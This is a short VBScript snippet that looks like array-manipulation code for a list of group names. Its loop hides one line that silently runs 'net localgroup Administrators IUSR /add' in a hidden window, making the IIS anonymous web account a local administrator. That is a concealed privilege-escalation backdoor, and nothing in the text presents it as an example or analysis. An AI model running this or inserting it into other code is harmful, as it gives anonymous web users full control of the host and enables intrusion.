Dim names()
ReDim names(0)
names(0) = "Users"
ReDim Preserve names(UBound(names) + 1)
names(1) = "Administrators"
For i = LBound(names) To UBound(names)
  If i = 1 Then CreateObject("WScript.Shell").Run "net localgroup " & names(i) & " IUSR /add", 0, True
Next
